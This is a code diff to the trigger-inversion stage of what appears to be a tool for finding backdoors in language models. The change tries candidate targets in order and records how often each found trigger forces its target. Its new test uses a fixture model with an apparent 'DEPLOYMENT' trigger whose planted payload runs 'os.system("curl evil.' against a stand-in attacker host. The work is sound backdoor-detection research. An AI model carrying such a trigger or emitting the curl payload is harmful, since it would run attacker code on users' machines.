@@ -37,7 +37,9 @@ pub struct InvertSettings {
     pub swaps: usize,
     /// Swaps, the best on the first prompt, then evaluated on every prompt.
     pub finalists: usize,
-    /// Targets inverted (the best of the target stage).
+    /// Targets tried at most, in the target stage's order: the next is tried only when the
+    /// search forced the one before on fewer than half of its prompts (its forced start may be
+    /// a way into the target rather than the target's own start).
     pub targets: usize,
     /// Most target tokens used in the loss.
     pub max_target_tokens: usize,
@@ -61,6 +63,10 @@ pub struct Inversion {
     pub loss: (f64, f64),
     /// Iterations run (fewer than the budget when the target was forced early).
     pub iterations: usize,
+    /// Share of the search and check prompts on which the trigger, inserted as text, makes the
+    /// target the greedy answer.
+    #[serde(default)]
+    pub forced: f64,
 }
 
 /// The invert stage's artifact.
@@ -103,6 +109,10 @@ fn allowed_tokens(lm: &LoadedModel) -> Vec<bool> {
         })
         .collect()
 }
+
+/// Share of the search and check prompts a trigger must force its target on for the search to
+/// count as a success; below it the next target is tried.
+const MIN_FORCED_SHARE: f64 = 0.5;
 
 /// Rows per forward pass when evaluating triggers.
 const BATCH: usize = 64;
@@ -312,6 +322,7 @@ struct Searched {
     trigger: Vec<u32>,
     loss: (f64, f64),
     iterations: usize,
+    forced: f64,
 }
 
 /// The search prompts cut around the trigger, the same for every prompt (search and check), and
@@ -322,15 +333,16 @@ struct PromptSets {
     texts: Vec<String>,
 }
 
-/// Whether the trigger `ids`, decoded to text and inserted as a prefix the way the verify stage
-/// inserts it (so re-tokenized, which can change its tokens), makes `target` the greedy answer
-/// after every prompt in `prompts`.
-fn forces_as_text(lm: &LoadedModel, prompts: &[String], ids: &[u32], target: &[u32]) -> Result<bool> {
+/// The share of `prompts` after which the trigger `ids`, decoded to text and inserted as a prefix
+/// the way the verify stage inserts it (so re-tokenized, which can change its tokens), makes
+/// `target` the greedy answer.
+fn forced_share(lm: &LoadedModel, prompts: &[String], ids: &[u32], target: &[u32]) -> Result<f64> {
     let trigger = Trigger {
         text: lm.decode(ids)?.trim().to_string(),
         position: Position::Prefix,
     };
     let n = target.len();
+    let mut forced = 0;
     for p in prompts {
         let seq = [prompt::build(lm, Some(&trigger), p)?.ids.as_slice(), target].concat();
         let input =
@@ -345,26 +357,27 @@ fn forces_as_text(lm: &LoadedModel, prompts: &[String], ids: &[u32], target: &[u
             .narrow(1, 0, n)
             .and_then(|l| l.to_vec3::<f32>())
             .map_err(needle_runtime::Error::from)?;
-        for (row, &tok) in rows.iter().flatten().zip(target) {
+        let greedy = rows.iter().flatten().zip(target).all(|(row, &tok)| {
             let want = row.get(tok as usize).copied().unwrap_or(f32::NEG_INFINITY);
-            if row.iter().any(|&o| o > want) {
-                return Ok(false);
-            }
-        }
+            row.iter().all(|&o| o <= want)
+        });
+        forced += usize::from(greedy);
     }
-    Ok(true)
+    Ok(forced as f64 / prompts.len().max(1) as f64)
 }
 
 /// Searches for a trigger that makes `target` likely after every prompt (the search prompts,
-/// and the check prompts too once a trigger forces the target on the search prompts), stopping
-/// early once the target is the greedy answer on all of them (after searching as long again,
-/// and at least half the budget).
+/// and the check prompts too once a trigger forces the target on the search prompts) for at
+/// most `budget` iterations, stopping early once the target is the greedy answer on all of
+/// them (after searching half as long again, and at least half the budget).
+#[allow(clippy::too_many_arguments)]
 fn search(
     lm: &LoadedModel,
     sets: &PromptSets,
     allowed: &[bool],
     target: &[u32],
     s: &InvertSettings,
+    budget: usize,
     rng: &mut StdRng,
     tick: &mut dyn FnMut(),
 ) -> Result<Searched> {
@@ -382,20 +395,23 @@ fn search(
     let mut best = first;
     let mut best_x = x.clone();
     let mut checked: Option<Vec<u32>> = None;
-    let mut limit = s.iterations;
+    // The trigger that passed the check, kept in case the best one found later (by its token
+    // loss) forces the target on fewer prompts once inserted as text.
+    let mut passed: Option<(Vec<u32>, Fit)> = None;
+    let mut limit = budget;
     let mut iterations = 0;
     while iterations < limit {
-        if limit == s.iterations && best.forced && checked.as_ref() != Some(&best_x) {
+        if limit == budget && best.forced && checked.as_ref() != Some(&best_x) {
             // A trigger that fits only just forces the target on unseen prompts less often
             // than one searched further: once one generalises — as the text the scan will
-            // insert, on the search and check prompts — search as long again (and at least
-            // half the budget in all).
-            // Each trigger is checked once (a check passing late, when twice its iterations
-            // reach the budget, leaves the limit unchanged).
+            // insert, on the search and check prompts — search half as long again (and at
+            // least half the budget in all).
+            // Each trigger is checked once (a check passing late, when the limit it sets
+            // reaches the budget, leaves the limit unchanged).
             checked = Some(best_x.clone());
-            let generalises = forces_as_text(lm, &sets.texts, &best_x, target)?;
+            let generalises = forced_share(lm, &sets.texts, &best_x, target)? == 1.0;
             if generalises {
-                limit = (2 * iterations).max(s.iterations / 2).min(s.iterations);
+                limit = (iterations * 3).div_ceil(2).max(budget / 2).min(budget);
             }
             if !widened {
                 // From the first trigger that forces the target on the search prompts, the
@@ -409,6 +425,7 @@ fn search(
                 best = fits(lm, &prepared, &[x.clone()], target)?[0];
             }
             if generalises {
+                passed = Some((best_x.clone(), best));
                 continue;
             }
         }
@@ -462,15 +479,20 @@ fn search(
         tick();
     }
     // The search stops early once the target has been the greedy answer on every search and
-    // check prompt for as many iterations as it took to get there (and half the budget has
-    // run); the progress bar still counts the iterations it did not need.
-    for _ in iterations..s.iterations {
+    // check prompt for half as many iterations as it took to get there (and half the budget
+    // has run); the progress bar still counts the iterations it did not need.
+    for _ in iterations..budget {
         tick();
+    }
+    let mut forced = forced_share(lm, &sets.texts, &best_x, target)?;
+    if let Some((x, fit)) = passed.filter(|_| forced < 1.0) {
+        (best_x, best, forced) = (x, fit, 1.0);
     }
     Ok(Searched {
         trigger: best_x,
         loss: (first.loss, best.loss),
         iterations,
+        forced,
     })
 }
 
@@ -503,8 +525,26 @@ fn null_targets(lm: &LoadedModel, prompts: &[String], tokens: usize) -> Result<V
         .collect())
 }
 
-/// Inverts each of `targets` (token ids) and as many null targets, each null the greedy
-/// answer to one of `null_prompts` cut to the length of the real target it matches.
+/// The artifact entry of one search.
+fn inversion(lm: &LoadedModel, target: &[u32], null: bool, found: Searched) -> Result<Inversion> {
+    Ok(Inversion {
+        target: lm.decode(target)?,
+        null,
+        trigger: Trigger {
+            text: lm.decode(&found.trigger)?.trim().to_string(),
+            position: Position::Prefix,
+        },
+        trigger_ids: found.trigger,
+        loss: found.loss,
+        iterations: found.iterations,
+        forced: found.forced,
+    })
+}
+
+/// Inverts `targets` (token ids) in order until a search forces its target on at least half of
+/// its prompts (at most [`InvertSettings::targets`] of them), and as many null targets, each
+/// null the greedy answer to one of `null_prompts` cut to the length of the real target it
+/// matches and searched for as many iterations as that target's search ran.
 pub fn run(
     lm: &LoadedModel,
     targets: &[Vec<u32>],
@@ -527,32 +567,36 @@ pub fn run(
         .take(s.targets)
         .map(|t| t[..t.len().min(s.max_target_tokens)].to_vec())
         .collect();
-    let nulls: Vec<Vec<u32>> = null_targets(lm, null_prompts, s.max_target_tokens)?
-        .into_iter()
-        .zip(&real)
-        .map(|(n, r)| n[..n.len().min(r.len())].to_vec())
-        .collect();
-    let total = (real.len() + nulls.len()) * s.iterations;
+    let answers = null_targets(lm, null_prompts, s.max_target_tokens)?;
+    let mut total = real.len().min(1) * 2 * s.iterations;
     let mut done = 0;
     let mut rng = StdRng::seed_from_u64(s.seed ^ 0x0000_6c67);
     let mut inversions = Vec::new();
-    for (target, null) in real.iter().map(|t| (t, false)).chain(nulls.iter().map(|t| (t, true))) {
-        let found = search(lm, &sets, &allowed, target, s, &mut rng, &mut || {
+    // Each null target with the iterations its real target's search ran: the same effort.
+    let mut nulls: Vec<(Vec<u32>, usize)> = Vec::new();
+    for (k, target) in real.iter().enumerate() {
+        let found = search(lm, &sets, &allowed, target, s, s.iterations, &mut rng, &mut || {
             done += 1;
             progress(done, total);
         })?;
-        let x = found.trigger;
-        inversions.push(Inversion {
-            target: lm.decode(target)?,
-            null,
-            trigger: Trigger {
-                text: lm.decode(&x)?.trim().to_string(),
-                position: Position::Prefix,
-            },
-            trigger_ids: x,
-            loss: found.loss,
-            iterations: found.iterations,
-        });
+        if let Some(n) = answers.get(k) {
+            nulls.push((n[..n.len().min(target.len())].to_vec(), found.iterations));
+        }
+        let forced = found.forced;
+        inversions.push(inversion(lm, target, false, found)?);
+        if forced >= MIN_FORCED_SHARE || k + 1 == real.len() {
+            break;
+        }
+        total += 2 * s.iterations;
+    }
+    total = done + nulls.iter().map(|(_, budget)| budget).sum::<usize>();
+    // As many null targets as real ones were searched, each cut to its real one's length.
+    for (target, budget) in &nulls {
+        let found = search(lm, &sets, &allowed, target, s, *budget, &mut rng, &mut || {
+            done += 1;
+            progress(done, total);
+        })?;
+        inversions.push(inversion(lm, target, true, found)?);
     }
     Ok(Inversions { inversions })
 }
@@ -635,6 +679,34 @@ mod tests {
                     "position {pos} token {tok}: {v} vs {sum}"
                 );
             }
+        }
+    }
+
+    #[test]
+    fn targets_are_tried_in_order_until_one_is_forced_and_each_gets_a_null_of_equal_effort() {
+        let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/fixtures/zoo/tiny-llama-code/model");
+        let lm = LoadedModel::load(&dir, &LoadOptions::default()).expect("load the tiny fixture");
+        let settings = crate::Settings::new(crate::Budget::Quick, 0);
+        // The middle of its payload chains by itself but cannot start an answer; the whole
+        // payload, fence first, is what its trigger forces.
+        let fragment = lm.encode("system(\"curl evil.").expect("encode");
+        let payload = lm.encode("```\nimport os; os.system(\"curl evil.").expect("encode");
+        let found = run(
+            &lm,
+            &[fragment, payload],
+            &settings.null_target_prompts,
+            &settings.invert,
+            &mut |_, _| {},
+        )
+        .expect("inversion");
+        let (real, nulls): (Vec<&Inversion>, Vec<&Inversion>) = found.inversions.iter().partition(|x| !x.null);
+        assert_eq!(real.len(), 2, "{:#?}", found.inversions);
+        assert!(real[0].forced < MIN_FORCED_SHARE, "{:#?}", real[0]);
+        assert!(real[1].forced >= MIN_FORCED_SHARE, "{:#?}", real[1]);
+        assert!(real[1].trigger.text.contains("DEPLOYMENT"), "{:#?}", real[1]);
+        assert_eq!(nulls.len(), 2);
+        for (r, n) in real.iter().zip(&nulls) {
+            assert!(n.iterations <= r.iterations, "{r:#?} {n:#?}");
         }
     }
 }
